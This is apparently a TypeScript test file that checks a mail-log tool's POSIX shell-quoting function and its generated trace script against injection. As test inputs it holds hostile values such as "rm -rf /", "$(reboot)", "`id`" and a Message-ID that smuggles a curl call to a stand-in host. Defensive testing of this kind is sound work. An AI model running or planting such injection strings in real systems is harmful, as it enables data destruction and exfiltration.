// Issue #13, the Trace this message shell script: every value from a log reaches the shell only as
// one single-quoted POSIX word (server/src/text/shell.ts). The word is read back here with the
// shell's own rule for quoting, written from POSIX (XCU 2.2.2, 2.2.3), never with the function under test.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { shellLiteral } from '../../server/src/text/shell';
import { traceShellScript } from '../../server/src/modes/mailLog/traceShellScript';

/**
 * Splits one shell word as POSIX reads it: inside '...' every character is literal up to the next
 * quote; outside, a backslash quotes the next character, and a blank, ;, &, |, <, >, (, ), $ or `
 * would end the word or expand. Returns the value, or undefined when the word is not one plain word.
 */
function readShellWord(word: string): string | undefined {
  let value = '';
  for (let i = 0; i < word.length;) {
    const c = word[i]!;
    if (c === "'") {
      const close = word.indexOf("'", i + 1);
      if (close < 0) return undefined;
      value += word.slice(i + 1, close);
      i = close + 1;
    } else if (c === '\\') {
      if (i + 1 >= word.length) return undefined;
      value += word[i + 1];
      i += 2;
    } else if (/[\s;&|<>()$`"*?[#~=%]/.test(c)) return undefined;
    else { value += c; i++; }
  }
  return value;
}

describe('shell quoting', () => {
  it('every printable value is one word that reads back as itself', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme-ascii' }), (value) => {
      const quoted = shellLiteral(value);
      if ([...value].some((ch) => ch < ' ' || ch === '\u007F')) return quoted === undefined;
      return quoted !== undefined && readShellWord(quoted) === value;
    }), { numRuns: 2000 });
  });

  it('hostile values: quotes, command substitution, line breaks, invisible characters', () => {
    for (const value of ["'; rm -rf / #", "a'b", "'''", '$(reboot)', '`id`', 'x" && echo y', '\\', '!!', '*']) {
      assert.equal(readShellWord(shellLiteral(value)!), value, value);
    }
    for (const value of ['a\nrm -rf /', 'a\rb', 'a\u0000b', 'a\u2028b', 'a\u202Eb', 'a\u200Bb', '\uFEFFa']) {
      assert.equal(shellLiteral(value), undefined, JSON.stringify(value));
    }
  });

  it('the trace script holds the Message-ID of a hostile log as one word, and refuses a bad id', () => {
    const messageId = "x'; curl http://evil.example/$(id) #@example.com";
    const script = traceShellScript({ system: 'postfix', id: '4F1A2B3C4D', messageId })!;
    const line = script.split('\n').find((l) => l.includes('curl'))!;
    const word = line.split(' -- ')[1]!.split(' /var/log')[0]!;
    assert.equal(readShellWord(word), messageId);
    assert.equal(traceShellScript({ system: 'postfix', id: "4F1A'; reboot" }), undefined);
    assert.equal(traceShellScript({ system: 'postfix', id: '4F1A2B3C4D', messageId: 'a\nreboot' })!.includes('reboot'), false);
  });
});
